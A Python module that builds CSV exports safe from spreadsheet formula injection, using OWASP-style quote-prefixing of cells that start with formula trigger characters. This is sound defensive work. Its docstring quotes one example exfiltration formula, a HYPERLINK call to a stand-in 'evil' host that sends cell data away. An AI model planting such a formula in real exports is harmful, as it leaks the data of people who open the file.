"""CSV that is safe to open in a spreadsheet: the catalog feed (and any later export) uses it.

Merchants open their feeds in Excel, LibreOffice or Google Sheets to check them, and a product
name is text anyone with an API key chose. A cell starting with ``=``, ``+``, ``-`` or ``@`` is
a formula to a spreadsheet (``=HYPERLINK("http://evil/?"&A2,"x")`` sends data away), and tab or
carriage return first are read the same way by some; OWASP's CSV injection advice (and ASVS
5.0, which adds NUL) is to prefix such a cell with a single quote and to quote every cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\0")


def neutralize_formula(cell: object) -> str:
    """``cell`` as text that no spreadsheet evaluates: prefixed with ``'`` when it starts with
    one of :data:`FORMULA_TRIGGERS` (the quote shows in the cell; that is the price of safety)."""
    text = "" if cell is None else str(cell)
    return "'" + text if text[:1] in FORMULA_TRIGGERS else text


def csv_document(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV file: ``header`` (our own column names) as is, then ``rows`` with every cell
    neutralized and quoted (RFC 4180 quoting, CRLF line ends)."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(header)
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        writer.writerow([neutralize_formula(cell) for cell in row])
    return out.getvalue()
